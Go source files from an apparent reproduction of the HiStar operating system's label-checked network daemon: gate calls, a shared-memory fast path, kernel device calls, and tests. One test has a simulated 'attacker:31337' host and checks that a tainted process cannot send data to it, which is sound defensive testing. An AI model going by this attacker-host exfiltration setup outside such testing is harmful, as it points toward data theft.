	if err := tc.SelfSetLabel(lbl.With(d.Taint, label.L2)); err != nil {
		return nil, err
	}

	// Receive loop: drain the device and demultiplex into connections.
	go d.rxLoop()
	return d, nil
}

// Process returns the daemon's process (its container hosts the socket gate
// and is what gets mounted at /netd).
func (d *Daemon) Process() *unixlib.Process { return d.proc }

// Stats returns a snapshot of daemon statistics.
func (d *Daemon) Stats() Stats {
	d.mu.Lock()
	defer d.mu.Unlock()
	return d.stats
}

// RegisterRemote installs a simulated remote host reachable at addr.
func (d *Daemon) RegisterRemote(addr string, handler RemoteHandler) {
	d.mu.Lock()
	defer d.mu.Unlock()
	d.remotes[addr] = handler
}

// ---------------------------------------------------------------------------
// The remote world (endpoint B of the link).
// ---------------------------------------------------------------------------

type remoteConnState struct {
	addr string
	req  []byte
}

var remoteStates = struct {
	sync.Mutex
	m map[*Daemon]map[uint32]*remoteConnState
}{m: make(map[*Daemon]map[uint32]*remoteConnState)}

// remoteDeliver handles frames arriving at the remote side of the link.
func (d *Daemon) remoteDeliver(frame []byte) {
	if len(frame) < 5 {
		return
	}
	id := binary.LittleEndian.Uint32(frame[:4])
	typ := frame[4]
	payload := frame[5:]

	remoteStates.Lock()
	states := remoteStates.m[d]
	if states == nil {
		states = make(map[uint32]*remoteConnState)
		remoteStates.m[d] = states
	}
	st := states[id]
	switch typ {
	case frOpen:
		states[id] = &remoteConnState{addr: string(payload)}
		remoteStates.Unlock()
		return
	case frData:
		if st != nil {
			st.req = append(st.req, payload...)
		}
		remoteStates.Unlock()
		return
	case frPush:
		if st == nil {
			remoteStates.Unlock()
			return
		}
		delete(states, id)
		remoteStates.Unlock()
		d.mu.Lock()
		handler := d.remotes[st.addr]
		d.mu.Unlock()
		var resp []byte
		if handler != nil {
			resp = handler(st.req)
		}
		d.sendResponse(id, resp)
		return
	default:
		remoteStates.Unlock()
	}
}

// sendResponse streams a response back over the link in MTU-sized frames.
func (d *Daemon) sendResponse(id uint32, resp []byte) {
	mtu := d.link.MTU() - 5
	for off := 0; off < len(resp); off += mtu {
		end := off + mtu
		if end > len(resp) {
			end = len(resp)
		}
		d.link.SendBtoA(encodeFrame(id, frRespData, resp[off:end]))
	}
	d.link.SendBtoA(encodeFrame(id, frRespEnd, nil))
}

func encodeFrame(id uint32, typ byte, payload []byte) []byte {
	frame := make([]byte, 5+len(payload))
	binary.LittleEndian.PutUint32(frame[:4], id)
	frame[4] = typ
	copy(frame[5:], payload)
	return frame
}

// ---------------------------------------------------------------------------
// The daemon side: receive loop and socket gate.
// ---------------------------------------------------------------------------

// rxLoop runs on the daemon's own thread, draining the device receive queue
// and demultiplexing frames into connection buffers.
func (d *Daemon) rxLoop() {
	tc := d.proc.TC
	for {
		if err := tc.DeviceWait(d.dev); err != nil {
			return
		}
		for {
			frame, ok, err := tc.DeviceReceive(d.dev)
			if err != nil {
				return
			}
			if !ok {
				break
			}
			d.handleInbound(frame)
		}
	}
}

func (d *Daemon) handleInbound(frame []byte) {
	if len(frame) < 5 {
		return
	}
	id := binary.LittleEndian.Uint32(frame[:4])
	typ := frame[4]
	payload := frame[5:]
	d.mu.Lock()
	c := d.conns[id]
	d.mu.Unlock()
	if c == nil {
		return
	}
	c.cond.L.Lock()
	switch typ {
	case frRespData:
		c.rxBuf = append(c.rxBuf, payload...)
		d.mu.Lock()
		d.stats.BytesRecv += uint64(len(payload))
		d.mu.Unlock()
	case frRespEnd:
		c.eof = true
	}
	c.cond.Broadcast()
	c.cond.L.Unlock()
	// Fast path: mirror received bytes into the shared segment, if any.
	d.fillFastSegment(c)
}

// socket gate operations, encoded in the first byte of Args.
const (
	opDial = iota
	opSend
	opRecv
	opClose
	opAttachFast
)

// socketGateEntry runs on the calling thread, with the gate's nr/nw
// ownership and taint.  The reply's first byte is 0 for success.
func (d *Daemon) socketGateEntry(call *kernel.GateCallCtx) []byte {
	d.mu.Lock()
	d.stats.GateCalls++
	d.mu.Unlock()
	args := call.Args
	if len(args) < 1 {
		return []byte{1}
	}
	op := args[0]
	switch op {
	case opDial:
		addr := string(args[1:])
		d.mu.Lock()
		if _, ok := d.remotes[addr]; !ok {
			d.mu.Unlock()
			return []byte{1}
		}
		d.nextID++
		id := d.nextID
		c := &conn{id: id, addr: addr}
		c.cond = sync.NewCond(&sync.Mutex{})
		d.conns[id] = c
		d.stats.Dials++
		d.mu.Unlock()
		// Transmit the open frame through the device: this is where the
		// kernel's label check blocks tainted callers.
		if err := call.TC.DeviceTransmit(d.dev, encodeFrame(id, frOpen, []byte(addr))); err != nil {
			d.mu.Lock()
			delete(d.conns, id)
			d.mu.Unlock()
			return []byte{1}
		}
		var out [5]byte
		binary.LittleEndian.PutUint32(out[1:], id)
		return out[:]
	case opSend:
		if len(args) < 5 {
			return []byte{1}
		}
		id := binary.LittleEndian.Uint32(args[1:5])
		data := args[5:]
		mtu := d.link.MTU() - 5
		for off := 0; off < len(data); off += mtu {
			end := off + mtu
			if end > len(data) {
				end = len(data)
			}
			if err := call.TC.DeviceTransmit(d.dev, encodeFrame(id, frData, data[off:end])); err != nil {
				return []byte{1}
			}
		}
		if err := call.TC.DeviceTransmit(d.dev, encodeFrame(id, frPush, nil)); err != nil {
			return []byte{1}
		}
		d.mu.Lock()
		d.stats.Sends++
		d.stats.BytesSent += uint64(len(data))
		d.mu.Unlock()
		return []byte{0}
	case opRecv:
		if len(args) < 13 {
			return []byte{1}
		}
		id := binary.LittleEndian.Uint32(args[1:5])
		want := int(binary.LittleEndian.Uint64(args[5:13]))
		d.mu.Lock()
		c := d.conns[id]
		d.stats.Recvs++
		d.mu.Unlock()
		if c == nil {
			return []byte{1}
		}
		c.cond.L.Lock()
		for len(c.rxBuf) == 0 && !c.eof && !c.closed {
			c.cond.Wait()
		}
		n := len(c.rxBuf)
		if n > want {
			n = want
		}
		out := make([]byte, 1+n)
		copy(out[1:], c.rxBuf[:n])
		c.rxBuf = c.rxBuf[n:]
		c.cond.L.Unlock()
		return out
	case opClose:
		if len(args) < 5 {
			return []byte{1}
		}
		id := binary.LittleEndian.Uint32(args[1:5])
		d.mu.Lock()
		if c := d.conns[id]; c != nil {
			c.cond.L.Lock()
			c.closed = true
			c.cond.Broadcast()
			c.cond.L.Unlock()
			delete(d.conns, id)
		}
		d.mu.Unlock()
		return []byte{0}
	case opAttachFast:
		// args: connID u32.  The entry code — running with the gate's nw
		// ownership and taint — allocates the shared segment in the daemon's
		// scratch container and returns its container entry to the caller.
		if len(args) < 5 {
			return []byte{1}
		}
		id := binary.LittleEndian.Uint32(args[1:5])
		d.mu.Lock()
		c := d.conns[id]
		d.mu.Unlock()
		if c == nil {
			return []byte{1}
		}
		// Both netd (refilling) and the client (consuming, clearing the
		// count word) write the segment, so it carries only the taint.
		// Interned: every fastpath segment shares one canonical taint label.
		segLbl := label.Intern(label.New(label.L1, label.P(d.Taint, label.L2)))
		segID, err := call.TC.SegmentCreate(d.Scratch, segLbl, "netd fastpath", fastDataOff+fastDataMax)
		if err != nil {
			return []byte{1}
		}
		ce := kernel.CEnt{Container: d.Scratch, Object: segID}
		c.cond.L.Lock()
		c.fastSeg = &ce
		c.cond.L.Unlock()
		out := make([]byte, 17)
		binary.LittleEndian.PutUint64(out[1:9], uint64(ce.Container))
		binary.LittleEndian.PutUint64(out[9:17], uint64(ce.Object))
		return out
	default:
		return []byte{1}
	}
}

// fastSegment layout: word 0 = available byte count (futex word), word 1 =
// EOF flag, data from offset 16.  The daemon refills it whenever it is empty
// and data is pending.
const (
	fastCountOff = 0
	fastEOFOff   = 8
	fastDataOff  = 16
	fastDataMax  = 256 * 1024
)

// fillFastSegment copies pending receive data into the connection's shared
// segment using the daemon's own thread (which owns nw and carries the
// taint), then wakes the client's futex wait.
func (d *Daemon) fillFastSegment(c *conn) {
	c.cond.L.Lock()
	seg := c.fastSeg
	if seg == nil {
		c.cond.L.Unlock()
		return
	}
	tc := d.proc.TC
	countBuf, err := tc.SegmentRead(*seg, fastCountOff, 8)
	if err != nil || binary.LittleEndian.Uint64(countBuf) != 0 {
		c.cond.L.Unlock()
		return
	}
	n := len(c.rxBuf)
	if n > fastDataMax {
		n = fastDataMax
	}
	if n > 0 {
		if err := tc.SegmentWrite(*seg, fastDataOff, c.rxBuf[:n]); err != nil {
			c.cond.L.Unlock()
			return
		}
		c.rxBuf = c.rxBuf[n:]
	}
	if c.eof && len(c.rxBuf) == 0 {
		var one [8]byte
		binary.LittleEndian.PutUint64(one[:], 1)
		_ = tc.SegmentWrite(*seg, fastEOFOff, one[:])
	}
	var cnt [8]byte
	binary.LittleEndian.PutUint64(cnt[:], uint64(n))
	_ = tc.SegmentWrite(*seg, fastCountOff, cnt[:])
	c.cond.L.Unlock()
	_, _ = tc.FutexWake(*seg, fastCountOff, 4)
}

// drainToFast is called by the client (via Socket.RecvFast) when the shared
// segment is empty but connection data is pending.
func (d *Daemon) drainToFast(id uint32) {
	d.mu.Lock()
	c := d.conns[id]
	d.mu.Unlock()
	if c != nil {
		d.fillFastSegment(c)
	}
}
