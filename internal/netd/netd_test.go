package netd

import (
	"bytes"
	"testing"

	"histar/internal/kernel"
	"histar/internal/label"
	"histar/internal/unixlib"
)

func bootNet(t *testing.T) (*unixlib.System, *Daemon) {
	t.Helper()
	sys, err := unixlib.Boot(unixlib.BootOptions{KernelConfig: kernel.Config{Seed: 3}})
	if err != nil {
		t.Fatal(err)
	}
	d, err := New(sys, Options{})
	if err != nil {
		t.Fatal(err)
	}
	return sys, d
}

func TestDialSendRecv(t *testing.T) {
	sys, d := bootNet(t)
	d.RegisterRemote("origin:80", func(req []byte) []byte {
		return append([]byte("you sent: "), req...)
	})
	client, err := sys.NewInitProcess("alice")
	if err != nil {
		t.Fatal(err)
	}
	sock, err := Dial(d, client, "origin:80")
	if err != nil {
		t.Fatal(err)
	}
	if err := sock.Send([]byte("GET /")); err != nil {
		t.Fatal(err)
	}
	var got []byte
	for len(got) < len("you sent: GET /") {
		chunk, err := sock.Recv(4096)
		if err != nil {
			t.Fatal(err)
		}
		if len(chunk) == 0 {
			break
		}
		got = append(got, chunk...)
	}
	if string(got) != "you sent: GET /" {
		t.Errorf("received %q", got)
	}
	if err := sock.Close(); err != nil {
		t.Fatal(err)
	}

	// Receiving network data tainted the client with the stack's i category.
	lbl, _ := client.TC.SelfLabel()
	if lbl.Get(d.Taint) != label.L2 {
		t.Errorf("client taint in i = %v, want 2", lbl.Get(d.Taint))
	}
	// But the client did not keep ownership of nr or nw.
	if lbl.Owns(d.Nr) || lbl.Owns(d.Nw) {
		t.Error("client must not retain device ownership after the call")
	}
}

func TestDialUnknownHostFails(t *testing.T) {
	sys, d := bootNet(t)
	client, _ := sys.NewInitProcess("alice")
	if _, err := Dial(d, client, "nowhere:99"); err == nil {
		t.Error("dialing an unregistered host should fail")
	}
}

func TestTaintedProcessCannotTransmit(t *testing.T) {
	// The ClamAV property: a process tainted in a secrecy category that the
	// network device does not carry cannot send anything, because the
	// DeviceTransmit write check fails.
	sys, d := bootNet(t)
	d.RegisterRemote("attacker:31337", func(req []byte) []byte { return []byte("got it") })
	victim, _ := sys.NewInitProcess("alice")

	// Taint the process in a fresh category v (as wrap does to the scanner).
	v, err := victim.TC.CategoryCreateNamed("v")
	if err != nil {
		t.Fatal(err)
	}
	lbl, _ := victim.TC.SelfLabel()
	if err := victim.TC.SelfSetLabel(lbl.With(v, label.L3).Without(v).With(v, label.L3)); err != nil {
		t.Fatal(err)
	}
	// Drop ownership first, then taint: simulate a thread that is tainted v3
	// without owning v.  (Creating the category granted ownership, so build
	// a second process that receives only the taint.)
	scanner, _ := sys.NewInitProcess("alice")
	slbl, _ := scanner.TC.SelfLabel()
	if err := scanner.TC.SelfSetLabel(slbl.With(v, label.L2)); err != nil {
		t.Fatal(err)
	}
	if _, err := Dial(d, scanner, "attacker:31337"); err == nil {
		t.Error("a v-tainted process must not be able to open network connections")
	}
}

func TestFastPathDeliversSameBytes(t *testing.T) {
	sys, d := bootNet(t)
	payload := bytes.Repeat([]byte("fastpath-data-"), 1000)
	d.RegisterRemote("bulk:80", func(req []byte) []byte { return payload })
	client, _ := sys.NewInitProcess("alice")
	sock, err := Dial(d, client, "bulk:80")
	if err != nil {
		t.Fatal(err)
	}
	if err := sock.AttachFastPath(); err != nil {
		t.Fatal(err)
	}
	if err := sock.Send([]byte("get")); err != nil {
		t.Fatal(err)
	}
	var got []byte
	for {
		chunk, err := sock.RecvFast()
		if err != nil {
			t.Fatal(err)
		}
		if chunk == nil {
			break
		}
		got = append(got, chunk...)
	}
	if !bytes.Equal(got, payload) {
		t.Errorf("fast path delivered %d bytes, want %d", len(got), len(payload))
	}
	st := d.Stats()
	if st.FastpathReads == 0 {
		t.Error("fast path reads not counted")
	}
}

func TestSeparateStacksIsolateTaints(t *testing.T) {
	// Two stacks (Internet and VPN) use distinct taint categories.  A
	// process that has read data from one network becomes tainted in that
	// network's category and can no longer transmit on the other device —
	// the Section 6.3 VPN isolation property.
	sys, inet := bootNet(t)
	vpn, err := New(sys, Options{TaintName: "v"})
	if err != nil {
		t.Fatal(err)
	}
	if inet.Taint == vpn.Taint {
		t.Fatal("stacks must use distinct taint categories")
	}
	inet.RegisterRemote("a:1", func([]byte) []byte { return []byte("A") })
	vpn.RegisterRemote("b:1", func([]byte) []byte { return []byte("B") })

	// An Internet-side browser: reads from the Internet stack, so it is
	// tainted i2 and must not be able to reach the VPN network.
	browser, _ := sys.NewInitProcess("alice")
	s1, err := Dial(inet, browser, "a:1")
	if err != nil {
		t.Fatal(err)
	}
	if err := s1.Send(nil); err != nil {
		t.Fatal(err)
	}
	if _, err := s1.Recv(16); err != nil {
		t.Fatal(err)
	}
	lbl, _ := browser.TC.SelfLabel()
	if lbl.Get(inet.Taint) != label.L2 {
		t.Fatalf("browser should be tainted i2, got %v", lbl)
	}
	if _, err := Dial(vpn, browser, "b:1"); err == nil {
		t.Error("an i-tainted process must not open connections on the VPN stack")
	}

	// A separate VPN-side process can use the VPN stack normally.
	vpnProc, _ := sys.NewInitProcess("alice")
	s2, err := Dial(vpn, vpnProc, "b:1")
	if err != nil {
		t.Fatal(err)
	}
	if err := s2.Send(nil); err != nil {
		t.Fatal(err)
	}
	if data, err := s2.Recv(16); err != nil || string(data) != "B" {
		t.Errorf("VPN-side receive = %q, %v", data, err)
	}
}
