package netd

import (
	"encoding/binary"

	"histar/internal/kernel"
	"histar/internal/label"
	"histar/internal/unixlib"
)

// The client side of the socket interface: the Unix library translates
// operations on socket file descriptors into gate calls to the netd process.
// Every call requests the gate's nr/nw ownership (needed to touch the
// device) plus the stack's taint, and drops the ownership again before
// returning — but keeps the taint, because data read from the network really
// does taint the caller.

// Socket is a client handle on one connection through a Daemon.
type Socket struct {
	d    *Daemon
	id   uint32
	proc *unixlib.Process

	// fast is the shared receive segment when the fast path is attached.
	fast *kernel.CEnt
}

// gateCall enters the daemon's socket gate with the conventional labels and
// restores the caller's ownership set afterwards.
func gateCall(d *Daemon, p *unixlib.Process, args []byte) ([]byte, error) {
	tc := p.TC
	lbl, err := tc.SelfLabel()
	if err != nil {
		return nil, err
	}
	clr, err := tc.SelfClearance()
	if err != nil {
		return nil, err
	}
	taintLevel := maxTaint(lbl.Get(d.Taint), label.L2)
	if lbl.Owns(d.Taint) {
		// A category owner (e.g. the VPN client, for i) is never forced to
		// taint itself: ownership means the kernel ignores the category.
		taintLevel = label.Star
	}
	req := kernel.GateRequest{
		Label: lbl.With(d.Nr, label.Star).With(d.Nw, label.Star).
			With(d.Taint, taintLevel),
		Clearance: clr,
		Verify:    lbl,
		Args:      args,
	}
	out, gerr := tc.GateEnter(d.Gate, req)
	// Drop the acquired nr/nw ownership; keep the taint.
	after, err := tc.SelfLabel()
	if err == nil {
		_ = tc.SelfSetLabel(after.With(d.Nr, label.L1).With(d.Nw, label.L1))
	}
	if gerr != nil {
		return nil, gerr
	}
	if len(out) < 1 || out[0] != 0 {
		return nil, ErrNoRoute
	}
	return out[1:], nil
}

func maxTaint(a, b label.Level) label.Level {
	if a > b {
		return a
	}
	return b
}

// ensureTaint raises the calling process's label to the stack's taint level
// before it observes received data; the kernel has no way to check reads of
// netd's internal buffers, so the client library applies the taint exactly
// where the real system's mapped-segment reads would force it.
func ensureTaint(d *Daemon, p *unixlib.Process) error {
	tc := p.TC
	lbl, err := tc.SelfLabel()
	if err != nil {
		return err
	}
	if lbl.Get(d.Taint) >= label.L2 || lbl.Owns(d.Taint) {
		return nil
	}
	return tc.SelfSetLabel(lbl.With(d.Taint, label.L2))
}

// Dial opens a connection to a registered remote address.
func Dial(d *Daemon, p *unixlib.Process, addr string) (*Socket, error) {
	out, err := gateCall(d, p, append([]byte{opDial}, addr...))
	if err != nil {
		return nil, err
	}
	if len(out) < 4 {
		return nil, ErrBadReply
	}
	return &Socket{d: d, id: binary.LittleEndian.Uint32(out[:4]), proc: p}, nil
}

// Send transmits request bytes and marks the end of the request (the remote
// handler runs once the push frame arrives).
func (s *Socket) Send(data []byte) error {
	args := make([]byte, 5+len(data))
	args[0] = opSend
	binary.LittleEndian.PutUint32(args[1:5], s.id)
	copy(args[5:], data)
	_, err := gateCall(s.d, s.proc, args)
	return err
}

// Recv returns up to n bytes of response data via a gate call, blocking
// until data arrives; it returns an empty slice at end of stream.  Receiving
// network data taints the caller with the stack's taint category.
func (s *Socket) Recv(n int) ([]byte, error) {
	if err := ensureTaint(s.d, s.proc); err != nil {
		return nil, err
	}
	args := make([]byte, 13)
	args[0] = opRecv
	binary.LittleEndian.PutUint32(args[1:5], s.id)
	binary.LittleEndian.PutUint64(args[5:13], uint64(n))
	return gateCall(s.d, s.proc, args)
}

// Close tears down the connection.
func (s *Socket) Close() error {
	args := make([]byte, 5)
	args[0] = opClose
	binary.LittleEndian.PutUint32(args[1:5], s.id)
	_, err := gateCall(s.d, s.proc, args)
	return err
}

// AttachFastPath sets up a shared-memory receive segment between the client
// and netd (the Section 5.7 optimization): subsequent RecvFast calls read
// directly from the segment and synchronize with futexes, avoiding the
// overhead of a gate call per read.  The segment is allocated by the gate
// entry (which holds the nw ownership needed to label it {nw0, taint2, 1})
// in the daemon's scratch container.
func (s *Socket) AttachFastPath() error {
	args := make([]byte, 5)
	args[0] = opAttachFast
	binary.LittleEndian.PutUint32(args[1:5], s.id)
	out, err := gateCall(s.d, s.proc, args)
	if err != nil {
		return err
	}
	if len(out) < 16 {
		return ErrBadReply
	}
	ce := kernel.CEnt{
		Container: kernel.ID(binary.LittleEndian.Uint64(out[:8])),
		Object:    kernel.ID(binary.LittleEndian.Uint64(out[8:16])),
	}
	s.fast = &ce
	return nil
}

// RecvFast reads response data through the shared segment.  The caller must
// have attached the fast path and must be able to read the segment (it is
// tainted with the stack's taint category, so reading taints the caller just
// as a gate-call receive would).
func (s *Socket) RecvFast() ([]byte, error) {
	if s.fast == nil {
		return nil, ErrBadReply
	}
	tc := s.proc.TC
	// Reading the shared segment requires (and applies) the stack's taint;
	// the kernel would refuse the read otherwise.
	if err := ensureTaint(s.d, s.proc); err != nil {
		return nil, err
	}
	for {
		cntBuf, err := tc.SegmentRead(*s.fast, fastCountOff, 16)
		if err != nil {
			return nil, err
		}
		cnt := binary.LittleEndian.Uint64(cntBuf[:8])
		eof := binary.LittleEndian.Uint64(cntBuf[8:16])
		if cnt > 0 {
			data, err := tc.SegmentRead(*s.fast, fastDataOff, int(cnt))
			if err != nil {
				return nil, err
			}
			var zero [8]byte
			if err := tc.SegmentWrite(*s.fast, fastCountOff, zero[:]); err != nil {
				return nil, err
			}
			s.d.mu.Lock()
			s.d.stats.FastpathReads++
			s.d.mu.Unlock()
			// Ask the daemon to refill if more data is pending.
			s.d.drainToFast(s.id)
			return data, nil
		}
		if eof != 0 {
			return nil, nil
		}
		// Nothing available: ask the daemon to refill, then sleep on the
		// count word.
		s.d.drainToFast(s.id)
		cntBuf, err = tc.SegmentRead(*s.fast, fastCountOff, 8)
		if err != nil {
			return nil, err
		}
		if binary.LittleEndian.Uint64(cntBuf) != 0 {
			continue
		}
		if err := tc.FutexWait(*s.fast, fastCountOff, 0); err != nil {
			return nil, err
		}
	}
}
