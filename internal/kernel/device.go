package kernel

import (
	"histar/internal/label"
)

// The kernel network API consists of three system calls: get the MAC
// address of the card, provide a transmit or receive packet buffer, and wait
// for a packet to be received or transmitted (Section 4.1).  There is no
// dynamic packet allocation or queuing in the kernel.  In this reproduction
// the device hands transmitted frames to a callback (wired to the simulated
// network) and frames injected by the simulation are delivered into the
// receive buffers user code has supplied.

// DeviceCreate creates a network device object in container d.  It is a
// bootstrap operation: the real kernel discovers devices at boot and the
// administrator's startup code labels them (typically {nr3, nw0, i2, 1}).
func (k *Kernel) DeviceCreate(d ID, lbl label.Label, mac [6]byte, descrip string) (ID, error) {
	cont, err := k.lookupContainer(d)
	if err != nil {
		return NilID, err
	}
	if !label.ValidObjectLabel(lbl) {
		return NilID, ErrInvalid
	}
	dev := &device{
		header: header{
			id:      k.newID(),
			objType: ObjDevice,
			lbl:     label.Intern(lbl),
			quota:   64 * 1024,
			descrip: truncDescrip(descrip),
			refs:    1,
		},
		mac:    mac,
		waitCh: make(chan struct{}, 1),
	}
	dev.usage = dev.footprint()
	cont.mu.Lock()
	if !liveLocked(cont) {
		cont.mu.Unlock()
		return NilID, ErrNoSuchObject
	}
	if err := k.charge(cont, dev.quota); err != nil {
		cont.mu.Unlock()
		return NilID, err
	}
	k.insert(dev)
	cont.link(dev.id)
	cont.mu.Unlock()
	k.netMu.Lock()
	k.netDevices = append(k.netDevices, dev.id)
	k.netMu.Unlock()
	return dev.id, nil
}

// SetDeviceTransmitHook wires the device's transmit path to the simulated
// network; pkt slices passed to the hook are owned by the callee.
func (k *Kernel) SetDeviceTransmitHook(dev ID, hook func(pkt []byte)) error {
	o, err := k.lookup(dev)
	if err != nil {
		return err
	}
	d, ok := o.(*device)
	if !ok {
		return ErrWrongType
	}
	d.mu.Lock()
	d.txNotify = hook
	d.mu.Unlock()
	return nil
}

// DeviceInject delivers an inbound frame to the device, as if it arrived
// from the wire.  Called by the network simulation.
func (k *Kernel) DeviceInject(dev ID, pkt []byte) error {
	o, err := k.lookup(dev)
	if err != nil {
		return err
	}
	d, ok := o.(*device)
	if !ok {
		return ErrWrongType
	}
	d.mu.Lock()
	if !liveLocked(d) {
		d.mu.Unlock()
		return ErrNoSuchObject
	}
	d.rxQueue = append(d.rxQueue, append([]byte(nil), pkt...))
	ch := d.waitCh
	d.mu.Unlock()
	select {
	case ch <- struct{}{}:
	default:
	}
	return nil
}

// Devices returns the IDs of all network devices (bootstrap plumbing).
func (k *Kernel) Devices() []ID {
	k.netMu.Lock()
	defer k.netMu.Unlock()
	out := make([]ID, len(k.netDevices))
	copy(out, k.netDevices)
	return out
}

// DeviceMAC returns the device's MAC address.  The invoking thread must be
// able to observe the device object.
func (tc *ThreadCall) DeviceMAC(ce CEnt) ([6]byte, error) {
	ctx, err := tc.enter(scNetMACAddr)
	if err != nil {
		return [6]byte{}, err
	}
	_, d, err := tc.deviceForRead(ctx, ce)
	if err != nil {
		return [6]byte{}, err
	}
	return d.mac, nil
}

// DeviceTransmit hands a frame to the device for transmission.  The invoking
// thread must be able to modify the device object; with the conventional
// device label {nr3, nw0, i2, 1} that means only threads owning nw (netd)
// and not tainted beyond i2 can transmit, which is exactly what keeps
// tainted data off the network.
func (tc *ThreadCall) DeviceTransmit(ce CEnt, pkt []byte) error {
	ctx, err := tc.enter(scNetTx)
	if err != nil {
		return err
	}
	cont, d, err := tc.deviceForWrite(ctx, ce)
	if err != nil {
		return err
	}
	ls := lockOrdered(objLock{cont, false}, objLock{d, false})
	verr := cont.verifyLinked(d.id)
	if verr == nil && !liveLocked(d) {
		verr = ErrNoSuchObject
	}
	hook := d.txNotify
	ls.unlock()
	if verr != nil {
		return verr
	}
	frame := append([]byte(nil), pkt...)
	if hook != nil {
		hook(frame)
	}
	return nil
}

// DeviceReceive removes and returns the next received frame, or (nil, false)
// when none is pending.  The invoking thread must be able to observe the
// device; the frame it receives is, by the device's label, tainted i2.
func (tc *ThreadCall) DeviceReceive(ce CEnt) ([]byte, bool, error) {
	ctx, err := tc.enter(scNetRx)
	if err != nil {
		return nil, false, err
	}
	cont, d, err := tc.deviceForRead(ctx, ce)
	if err != nil {
		return nil, false, err
	}
	ls := lockOrdered(objLock{cont, false}, objLock{d, true})
	defer ls.unlock()
	if err := verifyEntryLive(cont, d); err != nil {
		return nil, false, err
	}
	if len(d.rxQueue) == 0 {
		return nil, false, nil
	}
	pkt := d.rxQueue[0]
	d.rxQueue = d.rxQueue[1:]
	return pkt, true, nil
}

// DeviceWait blocks until a frame is available to receive (or one has been
// transmitted, in the real interface); it returns immediately if the receive
// queue is non-empty.
func (tc *ThreadCall) DeviceWait(ce CEnt) error {
	for {
		ctx, err := tc.enter(scNetWait)
		if err != nil {
			return err
		}
		_, d, err := tc.deviceForRead(ctx, ce)
		if err != nil {
			return err
		}
		d.mu.RLock()
		if !liveLocked(d) {
			d.mu.RUnlock()
			return ErrNoSuchObject
		}
		if len(d.rxQueue) > 0 {
			d.mu.RUnlock()
			return nil
		}
		ch := d.waitCh
		d.mu.RUnlock()
		<-ch
	}
}

// deviceForRead resolves ce to a device the invoking thread may observe;
// device labels are immutable, so no locks are held.
func (tc *ThreadCall) deviceForRead(ctx tctx, ce CEnt) (*container, *device, error) {
	cont, obj, err := tc.k.peek(ctx, ce)
	if err != nil {
		return nil, nil, err
	}
	d, ok := obj.(*device)
	if !ok {
		return nil, nil, ErrWrongType
	}
	if !tc.k.canObserveT(ctx.t, ctx.lbl, d.lbl) {
		return nil, nil, ErrLabel
	}
	return cont, d, nil
}

func (tc *ThreadCall) deviceForWrite(ctx tctx, ce CEnt) (*container, *device, error) {
	cont, obj, err := tc.k.peek(ctx, ce)
	if err != nil {
		return nil, nil, err
	}
	d, ok := obj.(*device)
	if !ok {
		return nil, nil, ErrWrongType
	}
	if !tc.k.canModifyT(ctx.t, ctx.lbl, d.lbl) {
		return nil, nil, ErrLabel
	}
	return cont, d, nil
}
