package kernel

import (
	"histar/internal/label"
)

// The kernel network API consists of three system calls: get the MAC
// address of the card, provide a transmit or receive packet buffer, and wait
// for a packet to be received or transmitted (Section 4.1).  There is no
// dynamic packet allocation or queuing in the kernel.  In this reproduction
// the device hands transmitted frames to a callback (wired to the simulated
// network) and frames injected by the simulation are delivered into the
// receive buffers user code has supplied.

// DeviceCreate creates a network device object in container d.  It is a
// bootstrap operation: the real kernel discovers devices at boot and the
// administrator's startup code labels them (typically {nr3, nw0, i2, 1}).
func (k *Kernel) DeviceCreate(d ID, lbl label.Label, mac [6]byte, descrip string) (ID, error) {
	k.mu.Lock()
	defer k.mu.Unlock()
	cont, err := k.lookupContainer(d)
	if err != nil {
		return NilID, err
	}
	if !label.ValidObjectLabel(lbl) {
		return NilID, ErrInvalid
	}
	dev := &device{
		header: header{
			id:      k.newID(),
			objType: ObjDevice,
			lbl:     label.Intern(lbl),
			quota:   64 * 1024,
			descrip: truncDescrip(descrip),
		},
		mac:    mac,
		waitCh: make(chan struct{}, 1),
	}
	dev.usage = dev.footprint()
	if err := k.chargeLocked(cont, dev.quota); err != nil {
		return NilID, err
	}
	k.objects[dev.id] = dev
	cont.link(dev.id)
	dev.refs = 1
	k.netDevices = append(k.netDevices, dev.id)
	return dev.id, nil
}

// SetDeviceTransmitHook wires the device's transmit path to the simulated
// network; pkt slices passed to the hook are owned by the callee.
func (k *Kernel) SetDeviceTransmitHook(dev ID, hook func(pkt []byte)) error {
	k.mu.Lock()
	defer k.mu.Unlock()
	o, err := k.lookup(dev)
	if err != nil {
		return err
	}
	d, ok := o.(*device)
	if !ok {
		return ErrWrongType
	}
	d.txNotify = hook
	return nil
}

// DeviceInject delivers an inbound frame to the device, as if it arrived
// from the wire.  Called by the network simulation.
func (k *Kernel) DeviceInject(dev ID, pkt []byte) error {
	k.mu.Lock()
	o, err := k.lookup(dev)
	if err != nil {
		k.mu.Unlock()
		return err
	}
	d, ok := o.(*device)
	if !ok {
		k.mu.Unlock()
		return ErrWrongType
	}
	d.rxQueue = append(d.rxQueue, append([]byte(nil), pkt...))
	ch := d.waitCh
	k.mu.Unlock()
	select {
	case ch <- struct{}{}:
	default:
	}
	return nil
}

// Devices returns the IDs of all network devices (bootstrap plumbing).
func (k *Kernel) Devices() []ID {
	k.mu.Lock()
	defer k.mu.Unlock()
	out := make([]ID, len(k.netDevices))
	copy(out, k.netDevices)
	return out
}

// DeviceMAC returns the device's MAC address.  The invoking thread must be
// able to observe the device object.
func (tc *ThreadCall) DeviceMAC(ce CEnt) ([6]byte, error) {
	tc.k.mu.Lock()
	defer tc.k.mu.Unlock()
	t, err := tc.self()
	if err != nil {
		return [6]byte{}, err
	}
	tc.k.count("net_macaddr", t)
	d, err := tc.deviceForRead(t, ce)
	if err != nil {
		return [6]byte{}, err
	}
	return d.mac, nil
}

// DeviceTransmit hands a frame to the device for transmission.  The invoking
// thread must be able to modify the device object; with the conventional
// device label {nr3, nw0, i2, 1} that means only threads owning nw (netd)
// and not tainted beyond i2 can transmit, which is exactly what keeps
// tainted data off the network.
func (tc *ThreadCall) DeviceTransmit(ce CEnt, pkt []byte) error {
	tc.k.mu.Lock()
	t, err := tc.self()
	if err != nil {
		tc.k.mu.Unlock()
		return err
	}
	tc.k.count("net_tx", t)
	d, err := tc.deviceForWrite(t, ce)
	if err != nil {
		tc.k.mu.Unlock()
		return err
	}
	hook := d.txNotify
	frame := append([]byte(nil), pkt...)
	tc.k.mu.Unlock()
	if hook != nil {
		hook(frame)
	}
	return nil
}

// DeviceReceive removes and returns the next received frame, or (nil, false)
// when none is pending.  The invoking thread must be able to observe the
// device; the frame it receives is, by the device's label, tainted i2.
